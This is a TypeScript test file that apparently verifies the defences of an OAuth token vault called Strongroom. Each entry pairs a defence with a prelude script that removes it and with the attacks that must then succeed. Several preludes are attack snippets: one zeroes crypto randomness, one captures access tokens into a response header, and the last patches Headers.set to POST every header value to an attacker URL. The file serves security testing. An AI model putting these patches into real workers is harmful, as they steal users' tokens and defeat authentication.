import type { Engine } from "../e2e/engines/engine.js";
import type { HostTesting } from "../stand-ins/host.js";
import type { Facts } from "./attack.js";
import { hashOf } from "./attacker.js";
import { PLANTED_STATE } from "./attacks/vault-origin.js";
import type { Victim } from "./victim.js";
import { STRONGROOM_ON_ITS_OWN_ORIGIN } from "./victims/index.js";

/** A defence of Strongroom, how a test removes it, and the attacks that must then succeed, unless the browser stops them. */
export interface Defence {
  /** Completes the sentence "without …". */
  name: string;
  /** Whose defence it is. Default: Strongroom on the app's origin. */
  victim?: Victim;
  /** The engine in which the attacks succeed. Default: Chromium. */
  engine?: Engine;
  /** `false`: the host sends none of its headers. Default: `true`. */
  headers?: boolean;
  /** `false`: requests that Node.js rejects get its own error page. Default: `true`. */
  answersRefused?: boolean;
  /** `true`: the host responds to the callback with a page in place of 204. */
  hasCallbackPage?: boolean;
  /** Script that runs before the worker's own and removes the defence. */
  prelude?: (facts: Facts) => string;
  /** Keys of the worker's configuration. */
  config?: Record<string, unknown>;
  /** Changes one of the host's headers; `undefined` removes it. */
  rewrite?: (name: string, value: string) => string | undefined;
  /** Changes the responses of a vault's own origin. */
  changeVault?: HostTesting["changeVaultResponse"];
  /** Names of attacks. */
  attacks: string[];
  /** What they must obtain. Default: anything. */
  gain?: string;
  /** What in the browser, which no test can remove, stops them even so. */
  stoppedBy?: string;
}

export const DEFENCES: Defence[] = [
  {
    name: "the host headers",
    headers: false,
    attacks: [
      "unregisters the worker and runs a silent flow in a frame",
      "unregisters the worker and runs a silent flow in a popup",
      "runs a silent flow in a frame before the worker's first activation",
    ],
  },
  {
    name: "the app's frame-src and the host's 204 at the callback, with its frame-ancestors, sandbox and X-Frame-Options",
    hasCallbackPage: true,
    rewrite: (name, value) =>
      name === "X-Frame-Options"
        ? undefined
        : value.replace(" frame-ancestors 'none'; sandbox", "").replace("frame-src 'none'", "frame-src *"),
    attacks: ["unregisters the worker and runs a silent flow in a frame"],
  },
  {
    name: "the host's 204 at the callback, with its sandbox, and Cross-Origin-Opener-Policy",
    hasCallbackPage: true,
    rewrite: (name, value) =>
      name === "Cross-Origin-Opener-Policy" ? undefined : value.replace("; sandbox", ""),
    attacks: ["unregisters the worker and runs a silent flow in a popup"],
  },
  {
    name: "the worker's response to the callback, on a plain host",
    headers: false,
    prelude: () => `
      const { addEventListener: listen } = self;
      self.addEventListener = (type, listener, ...rest) => listen.call(self, type, type !== "fetch" ? listener :
        (event) => { if (!event.request.url.includes("state=attack")) listener(event); }, ...rest);`,
    attacks: ["runs a silent flow in a frame"],
  },
  {
    name: "the check of the mode and destination of API requests",
    prelude: () => `
      for (const [name, value] of [["mode", "cors"], ["destination", ""]]) {
        const { get } = Object.getOwnPropertyDescriptor(Request.prototype, name);
        Object.defineProperty(Request.prototype, name, {
          get() { return this.url.includes("/api/") ? value : get.call(this); },
        });
      }`,
    attacks: [
      "links from another site to the API on the app's origin",
      "submits a form of another site to the API on the app's origin",
    ],
  },
  {
    name: "the check of the mode and destination at the endpoints",
    prelude: () => `
      for (const [name, value] of [["mode", "cors"], ["destination", ""]]) {
        const { get } = Object.getOwnPropertyDescriptor(Request.prototype, name);
        Object.defineProperty(Request.prototype, name, {
          get() { return this.url.includes("/auth/logout") ? value : get.call(this); },
        });
      }`,
    attacks: ["signs the user out from another site"],
  },
  {
    name: "the browser's description of who is a keeper",
    prelude: () => `
      const keeper = { type: { value: "sharedworker" }, url: { value: self.location.href } };
      if (self.Clients) Clients.prototype.get = async (id) => Object.create(Client.prototype, { ...keeper, id: { value: id } });`,
    attacks: ["speaks the keeper's protocol from pages, also at the worker's URL"],
  },
  {
    name: "the message that announces a sign-out to other vaults",
    // Elsewhere the next vault claims every page and frame of the one that was unregistered.
    engine: "firefox",
    prelude: () => `
      BroadcastChannel.prototype.postMessage = () => {};`,
    attacks: ["keeps an unregistered vault alive in a frame to outlive the sign-out"],
  },
  {
    name: "the refusal of redirects of an API that is part of its origin",
    prelude: () => `
      self.Request = new Proxy(Request, { construct: (target, [input, init]) =>
        new target(input, init?.redirect === "manual" ? { ...init, redirect: "follow" } : init) });`,
    attacks: ["uses a redirect of the API to another path of its origin"],
    gain: "access token",
  },
  {
    name: "the worker scripts' names in worker-src",
    rewrite: (_name, value) => value.replace(/worker-src [^;]+/, "worker-src 'self'"),
    attacks: ["registers a script at the root of the app's origin as a service worker"],
  },
  {
    name: "the page that replaces its URL in place of a redirect",
    prelude: () => `if (self.FetchEvent) {
      const { respondWith } = FetchEvent.prototype;
      FetchEvent.prototype.respondWith = function (responding) {
        respondWith.call(this, Promise.resolve(responding).then((response) =>
          response.headers.get("content-security-policy")?.includes("unsafe-inline") ? Response.redirect("/", 303) : response));
      };
    }`,
    attacks: [
      "runs a silent flow in the top page, with the response in the fragment",
      "lets the browser refuse the callback's redirect as one too many, and reads the tab's history",
    ],
    gain: "code for the attacker's own verifier",
  },
  {
    name: "the sandbox of that page, with an opener policy as in other browsers",
    prelude: () => "delete WorkerNavigator.prototype.userAgentData;",
    attacks: [
      "lets the browser refuse the callback's page in a sandboxed popup, and reads the popup's history",
    ],
    gain: "code for the attacker's own verifier",
  },
  {
    name: "the app's Cross-Origin-Opener-Policy, which cuts popups off",
    // Chromium gives the worker's page an origin of its own.
    engine: "firefox",
    rewrite: (name, value) => (name === "Cross-Origin-Opener-Policy" ? undefined : value),
    attacks: ["runs a silent flow in a popup that may run no script, and reads the popup"],
    gain: "code for the attacker's own verifier",
  },
  {
    name: "the host's 204 in response to requests that it rejects",
    answersRefused: false,
    attacks: [
      "unregisters the worker, sets cookies so that the host rejects the callback, and runs a silent flow in the top page",
    ],
  },
  {
    name: "the app's frame-src, which blocks the host's own error pages",
    answersRefused: false,
    rewrite: (_name, value) => value.replace("frame-src 'none'", "frame-src 'self'"),
    attacks: ["registers a script at the root of the app's origin as a service worker"],
  },
  {
    name: "the refusal of redirects at the token endpoint, and the worker's policy",
    headers: false,
    prelude: () => `
      self.Request = new Proxy(Request, { construct: (target, [input, init]) =>
        new target(input, init?.redirect === "error" ? { ...init, redirect: "follow" } : init) });`,
    attacks: ["uses a redirect of the token endpoint to its own server"],
  },
  {
    name: "the check of a request's URL, and the policies of page and worker",
    headers: false,
    prelude: ({ apiUrl, attackerUrl, siblingUrl }) => `
      if (self.InstallEvent) delete InstallEvent.prototype.addRoutes;
      const { get: urlOf } = Object.getOwnPropertyDescriptor(Request.prototype, "url");
      Object.defineProperty(Request.prototype, "url", { get() {
        const url = urlOf.call(this);
        const strange = [${JSON.stringify(attackerUrl)}, ${JSON.stringify(siblingUrl)}].some((home) => url.startsWith(home));
        return strange ? ${JSON.stringify(`${apiUrl}me`)} : url;
      } });`,
    attacks: ["sends requests to hosts that look like the API"],
    gain: "access token",
  },
  {
    name: "the vault's silence about tokens in its responses",
    victim: STRONGROOM_ON_ITS_OWN_ORIGIN,
    prelude: () => `if (self.FetchEvent) {
      let tokens = "";
      const { arrayBuffer } = Response.prototype;
      Response.prototype.arrayBuffer = async function () {
        const bytes = await arrayBuffer.call(this);
        const text = new TextDecoder().decode(bytes);
        if (text.includes("access_token")) tokens = text;
        return bytes;
      };
      const { respondWith } = FetchEvent.prototype;
      FetchEvent.prototype.respondWith = function (responding) {
        respondWith.call(this, Promise.resolve(responding).then(({ body, status, statusText, headers }) =>
          new Response(body, { status, statusText, headers: [...headers, ["x-tokens", tokens]] })));
      };
    }`,
    attacks: [
      "embeds a frame of the vault itself and asks it for everything through its own port",
      "keeps the port that the page gives to its worker, and reads what the relay says",
    ],
    gain: "access token",
  },
  {
    name: "the checks of who frames the vault's pages and who gets the response",
    victim: STRONGROOM_ON_ITS_OWN_ORIGIN,
    prelude: () => `if (self.document && parent !== self) {
      const { parent: app } = self;
      const value = { document, postMessage: (message) => app.postMessage(message, "*") };
      Object.defineProperty(self, "parent", { value });
    }`,
    attacks: ["frames the vault's login and callback pages with its own parameters"],
    gain: "code and verifier",
  },
  {
    name: "the limit of ports that a relay serves",
    victim: STRONGROOM_ON_ITS_OWN_ORIGIN,
    prelude: () => `if (self.DedicatedWorkerGlobalScope) Array.prototype.shift = () => undefined;`,
    attacks: ["floods the relay with frames, ports, requests and event streams"],
    stoppedBy: "the end of the page, with which its relays and their requests end,",
  },
  {
    name: "the vault's headers",
    victim: STRONGROOM_ON_ITS_OWN_ORIGIN,
    changeVault: (_path, { headers: { "Content-Type": type = "" }, ...response }) => ({
      ...response,
      headers: { "Content-Type": type },
    }),
    attacks: [
      "reads the vault's files, storage and frames from the app's origin",
      "sets cookies so that the vault's host rejects the callback, and runs a silent flow in the top page",
    ],
    stoppedBy: "the same-origin policy",
  },
  {
    name: "the randomness of nonce and code verifier",
    victim: STRONGROOM_ON_ITS_OWN_ORIGIN,
    prelude: () => `if (self.document) Crypto.prototype.getRandomValues = (array) => array.fill(0);`,
    attacks: [
      "sends its own code with the user's state to the callback page, in the user's tab and in another",
    ],
    gain: "the user works in the attacker's session",
  },
  // Each on an origin of its own: after the first attack, the authorization server no longer knows the session's user.
  ...["holds the result back", "keeps the callback page from running"].map((how) => ({
    name: "the time of the last sign-out",
    victim: STRONGROOM_ON_ITS_OWN_ORIGIN,
    prelude: () => `if (!self.document) {
      const { now } = Date;
      let isSignOut = false;
      addEventListener("fetch", ({ request }) => { isSignOut = request.url.includes("/auth/logout"); });
      Date.now = () => isSignOut ? 0 : now();
    }`,
    attacks: [`signs in once more, and ${how} until the user has signed out`],
  })),
  {
    name: "the vault's list of the sign-ins that it began",
    victim: STRONGROOM_ON_ITS_OWN_ORIGIN,
    // The vault refuses sign-ins from before the last sign-out anyway. So the clock jumps after the attack's sign-out, and the planted
    // sign-in is from after it.
    prelude: () => `{
      const { now } = Date;
      let jump = 0;
      Date.now = () => now() + jump;
      let signedOut = false;
      addEventListener("fetch", ({ request }) => {
        signedOut ||= request.url.includes("/logout");
        if (signedOut && request.url.includes("/login?")) jump = 60_000;
      });
      const { get } = IDBObjectStore.prototype;
      const { get: resultOf } = Object.getOwnPropertyDescriptor(IDBRequest.prototype, "result");
      IDBObjectStore.prototype.get = function (name) {
        const request = get.call(this, name);
        return name !== "state" ? request : Object.defineProperty(request, "result", { get() {
          const row = JSON.parse(resultOf.call(request) ?? '{"transactions":[]}');
          row.transactions.push([${JSON.stringify(hashOf(PLANTED_STATE))}, "user " + (now() + 30_000) + " /", 0]);
          return JSON.stringify(row);
        } });
      };
    }`,
    attacks: ["plants the callback's cookie from a sibling host, with a code of its own account"],
    gain: "the user works in the attacker's session",
  },
  {
    name: "the worker's policy, with a compromised worker",
    headers: false,
    prelude: ({ attackerUrl }) => `
      const { set } = Headers.prototype;
      Headers.prototype.set = function (name, value) {
        fetch(${JSON.stringify(`${attackerUrl}/calls-the-api-as-the-app-does/compromised`)}, { method: "POST", mode: "no-cors", body: value }).catch(() => {});
        return set.call(this, name, value);
      };`,
    attacks: ["calls the API as the app does"],
    gain: "access token",
  },
];

/** The same compromised worker, to show that it sends nothing out under the worker's policy. */
export const COMPROMISED_WORKER = DEFENCES.at(-1) as Defence;
